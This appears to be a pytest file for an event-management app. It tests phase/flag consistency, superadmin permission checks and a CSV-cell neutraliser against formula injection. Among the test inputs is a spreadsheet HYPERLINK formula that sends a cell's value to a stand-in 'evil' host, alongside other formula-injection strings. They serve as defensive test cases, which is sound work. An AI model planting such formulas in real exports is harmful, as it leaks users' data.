"""The rules of issue 15 as tables of cases, and the use-cases on the in-memory store."""

from __future__ import annotations

import itertools

import pytest

from podium.adapters.memory.store import MemoryStore
from podium.domain.errors import Forbidden
from podium.domain.rules import (
    PHASES,
    flags_for_phase,
    neutralise_csv_cell,
    phase_flags_agree,
    phase_for_flags,
)
from podium.domain.services.events import EventService, with_changes
from podium.domain.services.superadmin import SuperadminService
from tests.factories import EventFactory, UserFactory


@pytest.mark.parametrize(
    ("phase", "flags"),
    [
        ("draft", (False, False)),
        ("submission", (False, False)),
        ("voting", (True, False)),
        ("closed", (False, True)),
    ],
)
def test_each_phase_sets_the_legacy_flags(phase: str, flags: tuple[bool, bool]) -> None:
    assert flags_for_phase(phase) == flags
    assert phase_flags_agree(phase, *flags)


@pytest.mark.parametrize(
    ("votable", "leaderboard", "current", "phase"),
    [
        (True, False, "submission", "voting"),
        (True, True, "closed", "voting"),
        (False, True, "voting", "closed"),
        (False, False, "draft", "draft"),
        (False, False, "submission", "submission"),
        (False, False, "voting", "submission"),
        (False, False, "closed", "submission"),
    ],
)
def test_the_legacy_flags_move_the_phase(votable: bool, leaderboard: bool, current: str, phase: str) -> None:
    assert phase_for_flags(votable, leaderboard, current) == phase


def test_exactly_the_consistent_states_agree() -> None:
    agreeing = {
        state
        for state in itertools.product(PHASES, (False, True), (False, True))
        if phase_flags_agree(*state)
    }
    assert agreeing == {
        ("draft", False, False),
        ("submission", False, False),
        ("voting", True, False),
        ("voting", True, True),
        ("closed", False, True),
    }
    assert not phase_flags_agree("judging", False, False)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        # Issue 22 item 8: what spreadsheets skip before they read a formula.
        (' =HYPERLINK("http://evil/"&A1)', '\' =HYPERLINK("http://evil/"&A1)'),
        ("\u00a0\u2003=1+1", "'\u00a0\u2003=1+1"),
        ('"=1+1"', '\'"=1+1"'),
        ("'=1+1", "''=1+1"),
        ("\n\n-2", "'\n\n-2"),
        ("\x00\x1b@SUM(A1)", "'\x00\x1b@SUM(A1)"),
        ("\ufeff\u200b+1", "'\ufeff\u200b+1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("  hello = world", "  hello = world"),
        ("   ", "   "),
    ],
)
def test_csv_cells_never_run_as_formulas(value: str, cell: str) -> None:
    assert neutralise_csv_cell(value) == cell


def test_changes_keep_phase_and_flags_one_state() -> None:
    event = EventFactory.build(votable=True, leaderboard_enabled=True)
    assert event.phase == "voting"
    same = with_changes(event, {"phase": "voting"})
    assert (same.phase, same.votable, same.leaderboard_enabled) == ("voting", True, True)
    closed = with_changes(event, {"votable": False})
    assert (closed.phase, closed.votable, closed.leaderboard_enabled) == ("closed", False, True)
    draft = with_changes(closed, {"phase": "draft", "name": "New"})
    assert (draft.phase, draft.votable, draft.leaderboard_enabled, draft.name) == (
        "draft",
        False,
        False,
        "New",
    )


async def test_only_superadmins_use_the_superadmin_service() -> None:
    store = MemoryStore()
    person = UserFactory.build()
    service = SuperadminService(store)
    with pytest.raises(Forbidden):
        await service.events(person, "", 1, 10)
    assert not await service.set_superadmin(person.email, True)  # not signed up


async def test_a_superadmin_passes_the_owner_checks_in_memory() -> None:
    store = MemoryStore()
    owner, admin = UserFactory.build(), UserFactory.build(is_superadmin=True)
    event = EventFactory.build(owner_id=owner.id)
    async with store() as tx:
        await tx.users.add(owner)
        await tx.users.add(admin)
        await tx.events.add(event)
        await tx.commit()
    events = EventService(store)
    view = await events.admin_update(admin, event.id, {"phase": "closed", "votable": True})
    assert (view.event.phase, view.event.votable, view.event.leaderboard_enabled) == ("closed", False, True)
    with pytest.raises(Forbidden):
        await events.admin_update(UserFactory.build(), event.id, {"phase": "voting"})
